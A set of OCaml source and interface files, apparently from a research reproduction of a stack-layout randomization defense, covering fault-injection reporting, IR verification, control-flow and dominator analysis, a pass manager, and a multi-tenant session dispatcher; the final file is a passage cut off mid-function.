    A second, two-row comparison reruns the stuck-at-all-ones plan
    under both policies and scores the surviving randomness via
    {!Smokestack.Entropy_an}: fail-secure degrades to AES-10 and keeps
    the full expected brute-force cost, fail-open degrades to the
    memory-resident [pseudo] scheme whose disclosed state collapses
    the cost to a single attempt (the E10 prediction attack). *)

type row = {
  cworkload : string;
  cspec : string;  (** canonical plan spec ({!Fault.Plan.to_spec}) *)
  cfamily : string;  (** ["rng"], ["mem"] or ["intr"] *)
  coutcome : string;  (** reference-engine outcome *)
  cfired : int;  (** injections that actually happened *)
  ccaught : bool;  (** [Detected] outcome or a recorded degradation *)
  cdegradations : string list;  (** e.g. ["RDRAND->AES-10"] *)
  cengines_agree : bool;
      (** both backends: same outcome, output, cycles, instruction
          count, fired count and degradations *)
  cclean : bool;  (** observables identical to the fault-free run *)
  ccorrupting : bool;
      (** counted in the detection rate (latency spikes are not) *)
}

type policy_row = {
  ppolicy : string;  (** ["fail-secure"] or ["fail-open"] *)
  poutcome : string;
  pdegradations : string list;
  pscore : float;
      (** expected brute-force attempts against the post-degradation
          scheme (1.0 = layout effectively disclosed) *)
}

type t = {
  rows : row list;
  caught : int;
  corrupting_fired : int;  (** corrupting plans that fired at least once *)
  detection_rate : float;  (** [caught / corrupting_fired] (0 if none) *)
  policy : policy_row list;
}

val default_plans : Fault.Plan.t list
(** One plan per behaviour family plus two never-firing controls:
    stuck-at, all-ones, biased low bits, latency spike, unavailable,
    stack and data bit flips, FID-assert corruption. *)

val default_workloads : string list
(** [["mcf"; "proftpd-io"]] — one SPEC kernel, one I/O request loop. *)

val run :
  ?pool:Sched.Pool.t ->
  ?workloads:string list ->
  ?plans:Fault.Plan.t list ->
  ?seed:int64 ->
  unit ->
  t
(** One job per (workload, plan) cell, merged in submission order — the
    report is byte-identical at every pool width.  Raises [Failure] on
    an unknown workload name, or if a never-firing plan changed any
    observable. *)

val table : t -> Sutil.Texttable.t
val policy_table : t -> Sutil.Texttable.t
val to_markdown : t -> string
