(** Structural well-formedness checks for IR programs.

    Run after front-end lowering and after every transformation pass;
    a hardening pass that produces ill-formed IR is a bug in this
    reproduction, so the pass manager verifies by default. *)

type error = { func : string; block : string; message : string }

val pp_error : Format.formatter -> error -> unit
val verify_func : Prog.t -> Func.t -> error list

val verify : Prog.t -> error list
(** All errors across the program; empty means well-formed. Checks:
    blocks are non-empty of terminator, labels referenced by branches
    exist, registers are defined before use on every path (a proper
    dominator-tree check over {!Cfg}: every use must be dominated by a
    definition), register indices are within [Func.reg_count], callees exist
    (function, extern, or intrinsic), load/store types are scalar,
    globals referenced exist, entry block is not a branch target. *)

val verify_exn : Prog.t -> unit
(** Raises [Failure] with a rendered report if {!verify} finds
    errors. *)
