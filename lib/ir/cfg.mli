(** Control-flow-graph utilities over {!Func.t} blocks.

    Small, allocation-light helpers shared by the verifier-style
    dataflow passes and the static DOP analyzer ([lib/analysis]):
    successor/predecessor maps and a reverse-postorder block ordering
    (the order that makes forward dataflow converge fastest). *)

val successors : Instr.terminator -> string list
(** Labels a terminator can branch to ([Ret]/[Unreachable] have none).
    [Cond_br] lists the true target first. *)

type t = {
  blocks : Func.block array;  (** in reverse postorder from the entry *)
  index_of : (string, int) Hashtbl.t;  (** label -> index in [blocks] *)
  succ : int list array;  (** successor indices per block *)
  pred : int list array;  (** predecessor indices per block *)
}

val of_func : Func.t -> t
(** Builds the CFG reachable from the entry block.  Unreachable blocks
    are dropped (they cannot contribute stores).  Edge targets that name
    missing blocks are ignored, matching the verifier's leniency. *)
