(** Control-flow-graph utilities over {!Func.t} blocks.

    Small, allocation-light helpers shared by the verifier-style
    dataflow passes and the static DOP analyzer ([lib/analysis]):
    successor/predecessor maps and a reverse-postorder block ordering
    (the order that makes forward dataflow converge fastest). *)

val successors : Instr.terminator -> string list
(** Labels a terminator can branch to ([Ret]/[Unreachable] have none).
    [Cond_br] lists the true target first. *)

type t = {
  blocks : Func.block array;  (** in reverse postorder from the entry *)
  index_of : (string, int) Hashtbl.t;  (** label -> index in [blocks] *)
  succ : int list array;  (** successor indices per block *)
  pred : int list array;  (** predecessor indices per block *)
}

val of_func : Func.t -> t
(** Builds the CFG reachable from the entry block.  Unreachable blocks
    are dropped (they cannot contribute stores).  Edge targets that name
    missing blocks are ignored, matching the verifier's leniency. *)

val idom : t -> int array
(** Immediate-dominator tree (Cooper–Harvey–Kennedy over the RPO
    ordering of [blocks]): [idom.(i)] is the index of block [i]'s
    immediate dominator, with the entry its own dominator
    ([idom.(0) = 0]).  Every block in [t] is reachable, so the array is
    total. *)

val dominates : idom:int array -> int -> int -> bool
(** [dominates ~idom a b]: does block [a] dominate block [b]?  [idom]
    must come from {!idom} on the same CFG.  Reflexive ([a] dominates
    itself); the entry dominates everything. *)
