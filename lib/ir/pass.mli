(** Pass manager.

    Mirrors the structure of the paper's implementation (§IV): analysis
    and instrumentation are organized as function passes and module
    passes run in a pipeline.  Every pass run is followed by IR
    verification unless disabled. *)

type t =
  | Function_pass of { name : string; run : Prog.t -> Func.t -> unit }
  | Module_pass of { name : string; run : Prog.t -> unit }

val name : t -> string

val run :
  ?verify:bool -> ?post:(Prog.t -> (unit, string) result) -> t list -> Prog.t -> unit
(** Runs the pipeline in order.  With [verify] (default [true]) the
    program is verified after each pass; a failure identifies the
    offending pass in the exception message ("pass NAME broke IR
    invariants").  [post], when given, runs once after the whole
    pipeline (and its structural verification) succeeded; an [Error]
    raises [Failure] with the distinct "pipeline post-condition
    validation failed" prefix, so structural breakage and semantic
    post-condition breakage are distinguishable from the message alone.
    The Smokestack hardening pipeline uses it to run the static
    validator of [Analysis.Validate]. *)

val timings : unit -> (string * float) list
(** Cumulative wall-clock seconds per pass name since startup, most
    recent first; for the compile-time reporting in the harness.  The
    accumulator is process-wide and mutex-guarded (passes may run from
    several domains at once); it is diagnostic only and never feeds
    experiment results. *)

val reset_timings : unit -> unit
