type t =
  | Function_pass of { name : string; run : Prog.t -> Func.t -> unit }
  | Module_pass of { name : string; run : Prog.t -> unit }

let name = function Function_pass { name; _ } | Module_pass { name; _ } -> name

(* Process-wide pass-timing accumulator.  Passes run concurrently when
   experiment jobs compile programs on several domains, so every access
   is mutex-guarded; timings are diagnostics and never feed results. *)
let timing_table : (string, float) Hashtbl.t = Hashtbl.create 16
let timing_mutex = Mutex.create ()

let with_timing_lock f =
  Mutex.lock timing_mutex;
  Fun.protect ~finally:(fun () -> Mutex.unlock timing_mutex) f

let record name dt =
  with_timing_lock (fun () ->
      let prev = Option.value ~default:0. (Hashtbl.find_opt timing_table name) in
      Hashtbl.replace timing_table name (prev +. dt))

let run ?(verify = true) ?post passes prog =
  List.iter
    (fun pass ->
      let t0 = Sys.time () in
      (match pass with
      | Function_pass { run; _ } -> List.iter (run prog) prog.Prog.funcs
      | Module_pass { run; _ } -> run prog);
      record (name pass) (Sys.time () -. t0);
      if verify then
        match Verifier.verify prog with
        | [] -> ()
        | errors ->
            let report =
              String.concat "\n"
                (List.map (Format.asprintf "%a" Verifier.pp_error) errors)
            in
            failwith
              (Printf.sprintf "pass %s broke IR invariants:\n%s" (name pass) report))
    passes;
  (* Structural verification above answers "is this still well-formed
     IR?"; the post hook answers "does the transformed program satisfy
     the pipeline's semantic post-conditions?" — a distinct failure with
     a distinct message, so callers can tell a broken pass from a broken
     security property. *)
  match post with
  | None -> ()
  | Some check -> (
      match check prog with
      | Ok () -> ()
      | Error msg ->
          failwith
            (Printf.sprintf "pipeline post-condition validation failed:\n%s" msg))

let timings () =
  with_timing_lock (fun () ->
      Hashtbl.fold (fun k v acc -> (k, v) :: acc) timing_table [])
  |> List.sort (fun (_, a) (_, b) -> compare b a)

let reset_timings () = with_timing_lock (fun () -> Hashtbl.reset timing_table)
