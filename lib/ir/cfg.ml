let successors = function
  | Instr.Ret _ | Instr.Unreachable -> []
  | Instr.Br l -> [ l ]
  | Instr.Cond_br { if_true; if_false; _ } ->
      if if_true = if_false then [ if_true ] else [ if_true; if_false ]

type t = {
  blocks : Func.block array;
  index_of : (string, int) Hashtbl.t;
  succ : int list array;
  pred : int list array;
}

let of_func (f : Func.t) =
  let by_label = Hashtbl.create 16 in
  List.iter (fun (b : Func.block) -> Hashtbl.replace by_label b.label b) f.blocks;
  (* depth-first postorder from the entry, then reverse *)
  let visited = Hashtbl.create 16 in
  let post = ref [] in
  let rec dfs label =
    if not (Hashtbl.mem visited label) then begin
      Hashtbl.add visited label ();
      match Hashtbl.find_opt by_label label with
      | None -> ()
      | Some b ->
          List.iter dfs (successors b.term);
          post := b :: !post
    end
  in
  (match f.blocks with [] -> () | entry :: _ -> dfs entry.label);
  let blocks = Array.of_list !post in
  let index_of = Hashtbl.create 16 in
  Array.iteri (fun i (b : Func.block) -> Hashtbl.replace index_of b.label i) blocks;
  let n = Array.length blocks in
  let succ = Array.make n [] in
  let pred = Array.make n [] in
  Array.iteri
    (fun i (b : Func.block) ->
      let ss =
        List.filter_map (fun l -> Hashtbl.find_opt index_of l) (successors b.term)
      in
      succ.(i) <- ss;
      List.iter (fun s -> pred.(s) <- i :: pred.(s)) ss)
    blocks;
  Array.iteri (fun i ps -> pred.(i) <- List.rev ps) pred;
  { blocks; index_of; succ; pred }

(* Immediate dominators, Cooper–Harvey–Kennedy over the RPO ordering
   [blocks] already provides.  The intersection walks rely on the
   classic property that a node's dominator always has a smaller RPO
   index than the node itself. *)
let idom t =
  let n = Array.length t.blocks in
  let idom = Array.make n (-1) in
  if n > 0 then idom.(0) <- 0;
  let intersect b1 b2 =
    let f1 = ref b1 and f2 = ref b2 in
    while !f1 <> !f2 do
      while !f1 > !f2 do
        f1 := idom.(!f1)
      done;
      while !f2 > !f1 do
        f2 := idom.(!f2)
      done
    done;
    !f1
  in
  let changed = ref true in
  while !changed do
    changed := false;
    for i = 1 to n - 1 do
      let processed = List.filter (fun p -> idom.(p) >= 0) t.pred.(i) in
      match processed with
      | [] -> ()
      | p :: rest ->
          let d = List.fold_left intersect p rest in
          if idom.(i) <> d then begin
            idom.(i) <- d;
            changed := true
          end
    done
  done;
  idom

let dominates ~idom a b =
  let rec up b = b = a || (b <> 0 && up idom.(b)) in
  up b
