type error = { func : string; block : string; message : string }

let pp_error fmt e =
  Format.fprintf fmt "%s/%s: %s" e.func e.block e.message

let err func block fmt = Format.kasprintf (fun message -> { func; block; message }) fmt

module IntSet = Set.Make (Int)

let successors (b : Func.block) =
  match b.term with
  | Instr.Ret _ | Instr.Unreachable -> []
  | Instr.Br l -> [ l ]
  | Instr.Cond_br { if_true; if_false; _ } -> [ if_true; if_false ]

(* Registers guaranteed defined at entry of each reachable block: the
   parameters plus every definition in a strictly dominating block.
   Dominance — not the old definite-assignment intersection dataflow —
   is the property a compiler IR wants: a register is usable only where
   its defining instruction is guaranteed to have already executed,
   which is exactly "the definition site dominates the use".  Built on
   the shared {!Cfg} dominator tree; [Cfg.of_func] drops unreachable
   blocks, matching the verifier's leniency toward stranded code. *)
let defined_at_entry (f : Func.t) =
  let cfg = Cfg.of_func f in
  let idom = Cfg.idom cfg in
  let n = Array.length cfg.blocks in
  let defs_in =
    Array.map
      (fun (b : Func.block) ->
        List.fold_left
          (fun s i ->
            match Instr.defined_reg i with Some r -> IntSet.add r s | None -> s)
          IntSet.empty b.instrs)
      cfg.blocks
  in
  let params = IntSet.of_list (List.map fst f.params) in
  let at_entry = Array.make n params in
  (* RPO guarantees [idom.(i) < i], so one pass in index order settles
     every block: available-at-entry = available at the immediate
     dominator's entry plus its own definitions. *)
  for i = 1 to n - 1 do
    at_entry.(i) <- IntSet.union at_entry.(idom.(i)) defs_in.(idom.(i))
  done;
  fun label -> at_entry.(Hashtbl.find cfg.index_of label)

let verify_func (p : Prog.t) (f : Func.t) =
  let errors = ref [] in
  let add e = errors := e :: !errors in
  (match f.blocks with
  | [] -> add (err f.name "-" "function has no blocks")
  | entry :: rest ->
      List.iter
        (fun (b : Func.block) ->
          List.iter
            (fun l ->
              if String.equal l entry.label then
                add (err f.name b.label "branch targets the entry block"))
            (successors b))
        (entry :: rest));
  if f.blocks <> [] then begin
    let entry_defined = defined_at_entry f in
    let labels =
      List.fold_left
        (fun s (b : Func.block) -> b.label :: s)
        [] f.blocks
    in
    (* Unreachable blocks never execute and transformation passes may
       legitimately strand them mid-pipeline; only reachable code is
       held to the def-before-use discipline. *)
    let reachable = Hashtbl.create 16 in
    let rec visit label =
      if not (Hashtbl.mem reachable label) then begin
        Hashtbl.add reachable label ();
        match Func.find_block f label with
        | Some b -> List.iter visit (successors b)
        | None -> ()
      end
    in
    visit (List.hd f.blocks).label;
    let callee_known name =
      Option.is_some (Prog.find_func p name) || Prog.is_extern p name
    in
    List.iter
      (fun (b : Func.block) ->
        if Hashtbl.mem reachable b.label then
        let defined = ref (entry_defined b.label) in
        let check_operand what = function
          | Instr.Reg r ->
              if r < 0 || r >= Func.reg_count f then
                add (err f.name b.label "%s: register %%r%d out of range" what r)
              else if not (IntSet.mem r !defined) then
                add
                  (err f.name b.label "%s: register %%r%d may be used before definition"
                     what r)
          | Instr.Global g ->
              if Option.is_none (Prog.find_global p g) then
                add (err f.name b.label "%s: unknown global @%s" what g)
          | Instr.Func_ref fn ->
              if not (callee_known fn) then
                add (err f.name b.label "%s: unknown function reference @%s" what fn)
          | Instr.Imm _ -> ()
        in
        List.iter
          (fun i ->
            List.iter (check_operand "operand") (Instr.operands i);
            (match i with
            | Instr.Load { ty; _ } when not (Ty.is_scalar ty) ->
                add (err f.name b.label "load of aggregate type %s" (Ty.to_string ty))
            | Instr.Store { ty; _ } when not (Ty.is_scalar ty) ->
                add (err f.name b.label "store of aggregate type %s" (Ty.to_string ty))
            | Instr.Sext { width; _ } | Instr.Trunc { width; _ } ->
                if not (List.mem width [ 1; 2; 4; 8 ]) then
                  add (err f.name b.label "cast width %d not in {1,2,4,8}" width)
            | Instr.Call { callee; dst; _ } -> (
                if not (callee_known callee) then
                  add (err f.name b.label "call to unknown function @%s" callee)
                else
                  match (Prog.find_func p callee, dst) with
                  | Some callee_f, Some _ when Option.is_none callee_f.returns ->
                      add
                        (err f.name b.label "call uses result of void function @%s"
                           callee)
                  | _ -> ())
            | _ -> ());
            match Instr.defined_reg i with
            | Some r -> defined := IntSet.add r !defined
            | None -> ())
          b.instrs;
        List.iter (check_operand "terminator") (Instr.terminator_operands b.term);
        (match (b.term, f.returns) with
        | Instr.Ret (Some _), None ->
            add (err f.name b.label "ret with value in void function")
        | Instr.Ret None, Some _ ->
            add (err f.name b.label "ret without value in non-void function")
        | _ -> ());
        List.iter
          (fun l ->
            if not (List.mem l labels) then
              add (err f.name b.label "branch to unknown label %%%s" l))
          (successors b))
      f.blocks
  end;
  List.rev !errors

let verify p = List.concat_map (verify_func p) p.funcs

let verify_exn p =
  match verify p with
  | [] -> ()
  | errors ->
      let report =
        String.concat "\n" (List.map (Format.asprintf "%a" pp_error) errors)
      in
      failwith (Printf.sprintf "IR verification failed:\n%s" report)
