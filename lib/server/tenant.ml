type t = {
  id : int;
  name : string;
  app : Apps.Sessions.app;
  defense : Defenses.Defense.t;
  tseed : int64;
}

let make ~root ~id ~defense (app : Apps.Sessions.app) =
  let name = Printf.sprintf "t%02d:%s" id app.Apps.Sessions.sname in
  {
    id;
    name;
    app;
    defense;
    tseed = Sutil.Simrng.split_seed ~root ~id:("tenant/" ^ name);
  }

let fleet ?(defense = Defenses.Defense.Smokestack Smokestack.Config.default)
    ?(apps = Apps.Sessions.apps) ~root () =
  List.mapi (fun id app -> make ~root ~id ~defense app) apps

let prepare t =
  Defenses.Defense.apply ~seed:t.tseed t.defense
    (Lazy.force t.app.Apps.Sessions.sprogram)
