(** A tenant of the server runtime: one application hardened with one
    defense, plus the keyed seed that makes everything about the tenant
    — its build-time randomization and every per-session stream derived
    under it — a pure function of the fleet's root seed.

    Tenants are the isolation unit: each one gets its own prepared
    instance ({!prepare}, cached per tenant by the dispatcher through
    {!Sched.Lease}) and sessions never share machine state — every
    session builds a fresh state from the tenant's [applied] with its
    own entropy stream, so a compromised or crashed session cannot leak
    into its neighbours. *)

type t = {
  id : int;
  name : string;  (** e.g. ["t03:wireshark"] *)
  app : Apps.Sessions.app;
  defense : Defenses.Defense.t;
  tseed : int64;
      (** keyed derivation from the fleet root and the tenant name *)
}

val make : root:int64 -> id:int -> defense:Defenses.Defense.t ->
  Apps.Sessions.app -> t

val fleet :
  ?defense:Defenses.Defense.t ->
  ?apps:Apps.Sessions.app list ->
  root:int64 ->
  unit ->
  t list
(** One tenant per session app (all nine by default), every one
    hardened with [defense] (default: Smokestack with the paper's
    default configuration). *)

val prepare : t -> Defenses.Defense.applied
(** Build the tenant's hardened instance (compile passes + P-BOX
    randomization under the tenant seed).  Deterministic; expensive —
    call once per tenant and share via {!Sched.Lease}. *)
