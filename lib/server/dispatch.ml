type discipline = Fcfs | Wfq

type degradation = {
  window : float;
  storm_failures : int;
  reserve : float;
}

let default_degradation =
  { window = 50_000.; storm_failures = 8; reserve = 0.5 }

type config = {
  virtual_workers : int;
  queue_capacity : int;
  shard : int;
  timeout : float option;
  retries : int;
  discipline : discipline;
  weights : int * int * int;
  policy : Policy.config option;
  degradation : degradation option;
}

let default =
  {
    virtual_workers = 16;
    queue_capacity = 1024;
    shard = 32;
    timeout = None;
    retries = 0;
    discipline = Fcfs;
    weights = (4, 2, 1);
    policy = None;
    degradation = None;
  }

type served = {
  outcome : Session.outcome;
  start : float;
  finish : float;
  cls : Policy.cls;
}

let wait s = s.start -. s.outcome.Session.spec.Session.arrival
let sojourn s = s.finish -. s.outcome.Session.spec.Session.arrival

type refusal = Backoff | Quarantine

let refusal_label = function Backoff -> "backoff" | Quarantine -> "quarantine"

type t = {
  served : served list;
  shed : (Session.outcome * Policy.cls) list;
  rejected : (Session.outcome * refusal) list;
  dropped : Session.spec list;
  peak_open : int;
  makespan : float;
  degraded : int;
  policy : Policy.stats option;
}

(* ------------------------------------------------------------------ *)
(* Virtual-time admission and queueing.

   Sessions are replayed, in arrival order, through a deterministic
   event-driven simulation of [virtual_workers] request handlers over
   the measured service times.  An arrival is first screened by the
   optional per-client {!Policy} (breaker rejections never reach the
   queue), then classified (paying / standard / suspect), then either
   started on an idle handler, enqueued, or shed.  The wait queue is
   FCFS or weighted-fair (SCFQ: each enqueue stamps a finish tag
   [max(vclock, class tag) + service/weight]; dequeues take the lowest
   tag and advance the virtual clock to it), and under WFQ a full queue
   sheds by class: an arrival that outranks the lowest-class queued
   session evicts it instead of being refused.

   Everything is computed from (arrival, service_cycles, verdict)
   triples — all bit-identical across engines and pool widths — so the
   admission decisions, breaker state, latencies and throughput are
   too. *)

type entry = {
  e_outcome : Session.outcome;
  e_cls : Policy.cls;
  e_seq : int;
  e_tag : float;  (* SCFQ finish tag (Wfq); enqueue sequence (Fcfs) *)
  s : served option ref;  (* filled at start time, admission order kept *)
}

let cls_of policy (o : Session.outcome) =
  let is_suspect =
    match policy with
    | Some p -> Policy.suspect p ~client:o.Session.spec.Session.client
    | None -> false
  in
  if is_suspect then Policy.Suspect
  else if o.Session.spec.Session.paying then Policy.Paying
  else Policy.Standard

let admit ?(dropped = []) cfg outcomes =
  let workers = max 1 cfg.virtual_workers in
  let policy = Option.map Policy.create cfg.policy in
  let wp, ws, wu = cfg.weights in
  let weight = function
    | Policy.Paying -> float_of_int (max 1 wp)
    | Policy.Standard -> float_of_int (max 1 ws)
    | Policy.Suspect -> float_of_int (max 1 wu)
  in
  (* busy handlers: (finish, seq, entry), ascending by (finish, seq) *)
  let busy = ref [] in
  let nbusy = ref 0 in
  let queue = ref [] in
  let nqueue = ref 0 in
  let order = ref [] in  (* admitted entries, admission order (reversed) *)
  let shed = ref [] in
  let rejected = ref [] in
  let seq = ref 0 in
  let vclock = ref 0. in
  let class_tag = [| 0.; 0.; 0. |] in
  let fail_times = ref [] in
  let peak_open = ref 0 in
  let makespan = ref 0. in
  let degraded_arrivals = ref 0 in
  let next_seq () =
    incr seq;
    !seq
  in
  let rec insert_busy x = function
    | [] -> [ x ]
    | ((f, s, _) as y) :: rest ->
        let fx, sx, _ = x in
        if (fx, sx) < (f, s) then x :: y :: rest else y :: insert_busy x rest
  in
  let start_session ~at e =
    let finish = at +. e.e_outcome.Session.service_cycles in
    busy := insert_busy (finish, e.e_seq, e) !busy;
    incr nbusy;
    e.s := Some { outcome = e.e_outcome; start = at; finish; cls = e.e_cls };
    if finish > !makespan then makespan := finish
  in
  let enqueue ~svc e =
    let e =
      match cfg.discipline with
      | Fcfs -> { e with e_tag = float_of_int e.e_seq }
      | Wfq ->
          let i = 2 - Policy.cls_rank e.e_cls in
          let tag =
            Float.max !vclock class_tag.(i) +. (svc /. weight e.e_cls)
          in
          class_tag.(i) <- tag;
          { e with e_tag = tag }
    in
    let rec ins = function
      | [] -> [ e ]
      | y :: rest ->
          if (e.e_tag, e.e_seq) < (y.e_tag, y.e_seq) then e :: y :: rest
          else y :: ins rest
    in
    queue := ins !queue;
    incr nqueue
  in
  let dequeue () =
    match !queue with
    | [] -> None
    | e :: rest ->
        queue := rest;
        decr nqueue;
        if cfg.discipline = Wfq then vclock := e.e_tag;
        Some e
  in
  (* evict the lowest-ranked queued session, latest-served first among
     equals; only strictly lower-ranked sessions are eviction fodder *)
  let evict_below cls =
    let victim =
      List.fold_left
        (fun acc e ->
          if Policy.cls_rank e.e_cls >= Policy.cls_rank cls then acc
          else
            match acc with
            | None -> Some e
            | Some v ->
                if
                  Policy.cls_rank e.e_cls < Policy.cls_rank v.e_cls
                  || Policy.cls_rank e.e_cls = Policy.cls_rank v.e_cls
                     && (e.e_tag, e.e_seq) > (v.e_tag, v.e_seq)
                then Some e
                else acc)
        None !queue
    in
    match victim with
    | None -> None
    | Some v ->
        queue := List.filter (fun e -> e.e_seq <> v.e_seq) !queue;
        decr nqueue;
        Some v
  in
  let record_completion finish (e : entry) =
    let failure = Policy.failure_verdict e.e_outcome.Session.verdict in
    (match policy with
    | Some p ->
        Policy.observe p ~client:e.e_outcome.Session.spec.Session.client
          ~now:finish ~failure
    | None -> ());
    if failure && cfg.degradation <> None then
      fail_times := finish :: !fail_times
  in
  let rec advance t =
    match !busy with
    | (finish, _, e) :: rest when finish <= t ->
        busy := rest;
        decr nbusy;
        record_completion finish e;
        (match dequeue () with
        | Some q -> start_session ~at:finish q
        | None -> ());
        advance t
    | _ -> ()
  in
  let degraded_at t =
    match cfg.degradation with
    | None -> false
    | Some d ->
        fail_times := List.filter (fun f -> f > t -. d.window) !fail_times;
        List.length !fail_times >= d.storm_failures
  in
  let class_capacity ~degraded d cls =
    if not degraded then cfg.queue_capacity
    else
      match cls with
      | Policy.Paying -> cfg.queue_capacity
      | Policy.Standard ->
          int_of_float (float_of_int cfg.queue_capacity *. d.reserve)
      | Policy.Suspect -> 0
  in
  List.iter
    (fun (o : Session.outcome) ->
      let t = o.Session.spec.Session.arrival in
      advance t;
      let degraded = degraded_at t in
      if degraded then incr degraded_arrivals;
      let decision =
        match policy with
        | None -> Policy.Admit
        | Some p ->
            Policy.decide p ~client:o.Session.spec.Session.client ~now:t
      in
      (match decision with
      | Policy.Reject_quarantine -> rejected := (o, Quarantine) :: !rejected
      | Policy.Reject_backoff _ -> rejected := (o, Backoff) :: !rejected
      | Policy.Admit ->
          let cls = cls_of policy o in
          let e =
            {
              e_outcome = o;
              e_cls = cls;
              e_seq = next_seq ();
              e_tag = 0.;
              s = ref None;
            }
          in
          if !nbusy < workers then begin
            order := e :: !order;
            start_session ~at:t e
          end
          else begin
            let cap =
              match cfg.degradation with
              | Some d -> class_capacity ~degraded d cls
              | None -> cfg.queue_capacity
            in
            if !nqueue < cap then begin
              order := e :: !order;
              enqueue ~svc:o.Session.service_cycles e
            end
            else if cfg.discipline = Wfq then
              match evict_below cls with
              | Some v ->
                  shed := (v.e_outcome, v.e_cls) :: !shed;
                  order := e :: !order;
                  enqueue ~svc:o.Session.service_cycles e
              | None -> shed := (o, cls) :: !shed
            else shed := (o, cls) :: !shed
          end);
      let open_now = !nbusy + !nqueue in
      if open_now > !peak_open then peak_open := open_now)
    outcomes;
  advance Float.infinity;
  let served =
    List.rev !order
    |> List.filter_map (fun e ->
           match !(e.s) with
           | Some s -> Some s
           | None ->
               (* evicted from the queue: already recorded as shed *)
               None)
  in
  {
    served;
    shed = List.rev !shed;
    rejected = List.rev !rejected;
    dropped;
    peak_open = !peak_open;
    makespan = !makespan;
    degraded = !degraded_arrivals;
    policy = Option.map Policy.stats policy;
  }

(* ------------------------------------------------------------------ *)

let rec shards_of n = function
  | [] -> []
  | specs ->
      let rec take k acc = function
        | rest when k = 0 -> (List.rev acc, rest)
        | [] -> (List.rev acc, [])
        | x :: rest -> take (k - 1) (x :: acc) rest
      in
      let shard, rest = take n [] specs in
      shard :: shards_of n rest

let prepared lease (tenant : Tenant.t) =
  Sched.Lease.acquire lease ~key:tenant.Tenant.name ~build:(fun () ->
      Tenant.prepare tenant)

let execute ?(pool = Sched.Pool.sequential) ?backend ?(config = default)
    tenants specs =
  let lease = Sched.Lease.create () in
  (* Build every tenant instance up front, on the submitting domain:
     jobs then lease read-only hits instead of serializing on builds. *)
  List.iter (fun t -> ignore (prepared lease t)) tenants;
  let shards = shards_of (max 1 config.shard) specs in
  let jobs =
    List.mapi
      (fun i shard ->
        Sched.Job.v ~id:(Printf.sprintf "serve/shard-%04d" i) (fun () ->
            List.map
              (fun (s : Session.spec) ->
                let applied = prepared lease s.Session.tenant in
                Session.run ?backend ~applied s)
              shard))
      shards
  in
  let outcomes =
    match (config.timeout, config.retries) with
    | None, 0 ->
        (* no supervision requested: run on the pool's queue workers
           (run_all_outcomes spawns a fresh domain per attempt, which
           oversubscribes the host and thrashes the multicore GC) *)
        List.map (fun r -> Sched.Job.Ok r) (Sched.Pool.run_all pool jobs)
    | _ ->
        Sched.Pool.run_all_outcomes ?timeout:config.timeout
          ~retries:config.retries pool jobs
  in
  let executed, dropped =
    List.fold_left2
      (fun (ex, dr) shard outcome ->
        match outcome with
        | Sched.Job.Ok os -> (os :: ex, dr)
        | Sched.Job.Timed_out | Sched.Job.Failed _ -> (ex, shard :: dr))
      ([], []) shards outcomes
  in
  (List.concat (List.rev executed), List.concat (List.rev dropped))

let run ?pool ?backend ?(config = default) tenants specs =
  let executed, dropped = execute ?pool ?backend ~config tenants specs in
  admit ~dropped config executed
