type config = {
  virtual_workers : int;
  queue_capacity : int;
  shard : int;
  timeout : float option;
  retries : int;
}

let default =
  { virtual_workers = 16; queue_capacity = 1024; shard = 32; timeout = None;
    retries = 0 }

type served = { outcome : Session.outcome; start : float; finish : float }

let wait s = s.start -. s.outcome.Session.spec.Session.arrival
let sojourn s = s.finish -. s.outcome.Session.spec.Session.arrival

type t = {
  served : served list;
  shed : Session.outcome list;
  dropped : Session.spec list;
  peak_open : int;
  makespan : float;
}

(* ------------------------------------------------------------------ *)
(* A small float min-heap for tracking open sessions' finish times.    *)

module Fheap = struct
  type h = { mutable a : float array; mutable n : int }

  let create () = { a = Array.make 64 0.; n = 0 }
  let size h = h.n

  let push h x =
    if h.n = Array.length h.a then begin
      let a = Array.make (2 * h.n) 0. in
      Array.blit h.a 0 a 0 h.n;
      h.a <- a
    end;
    let i = ref h.n in
    h.a.(!i) <- x;
    h.n <- h.n + 1;
    while !i > 0 && h.a.((!i - 1) / 2) > h.a.(!i) do
      let p = (!i - 1) / 2 in
      let tmp = h.a.(p) in
      h.a.(p) <- h.a.(!i);
      h.a.(!i) <- tmp;
      i := p
    done

  let min h = h.a.(0)

  let pop h =
    h.n <- h.n - 1;
    h.a.(0) <- h.a.(h.n);
    let i = ref 0 in
    let continue = ref true in
    while !continue do
      let l = (2 * !i) + 1 and r = (2 * !i) + 2 in
      let s = ref !i in
      if l < h.n && h.a.(l) < h.a.(!s) then s := l;
      if r < h.n && h.a.(r) < h.a.(!s) then s := r;
      if !s = !i then continue := false
      else begin
        let tmp = h.a.(!s) in
        h.a.(!s) <- h.a.(!i);
        h.a.(!i) <- tmp;
        i := !s
      end
    done
end

(* ------------------------------------------------------------------ *)
(* Virtual-time admission and queueing.

   Sessions are replayed through a deterministic FCFS simulation of
   [virtual_workers] request handlers over the measured service times:
   at each arrival, retire handlers whose session finished, count the
   sessions that are open but not in service (the wait queue), and shed
   the arrival if the queue is at capacity; otherwise the session
   starts on the earliest-free handler.  Everything is computed from
   (arrival, service_cycles) pairs — both bit-identical across engines
   and pool widths — so the admission decisions, latencies and
   throughput are too. *)

let simulate cfg outcomes =
  let workers = max 1 cfg.virtual_workers in
  let free = Array.make workers 0. in
  let open_finishes = Fheap.create () in
  let served = ref [] in
  let shed = ref [] in
  let peak_open = ref 0 in
  let makespan = ref 0. in
  List.iter
    (fun (o : Session.outcome) ->
      let arrival = o.Session.spec.Session.arrival in
      while Fheap.size open_finishes > 0 && Fheap.min open_finishes <= arrival do
        Fheap.pop open_finishes
      done;
      let in_service = ref 0 in
      Array.iter (fun f -> if f > arrival then incr in_service) free;
      let waiting = Fheap.size open_finishes - !in_service in
      if waiting >= cfg.queue_capacity then shed := o :: !shed
      else begin
        let k = ref 0 in
        Array.iteri (fun i f -> if f < free.(!k) then k := i) free;
        let start = Float.max arrival free.(!k) in
        let finish = start +. o.Session.service_cycles in
        free.(!k) <- finish;
        Fheap.push open_finishes finish;
        if Fheap.size open_finishes > !peak_open then
          peak_open := Fheap.size open_finishes;
        if finish > !makespan then makespan := finish;
        served := { outcome = o; start; finish } :: !served
      end)
    outcomes;
  (List.rev !served, List.rev !shed, !peak_open, !makespan)

(* ------------------------------------------------------------------ *)

let rec shards_of n = function
  | [] -> []
  | specs ->
      let rec take k acc = function
        | rest when k = 0 -> (List.rev acc, rest)
        | [] -> (List.rev acc, [])
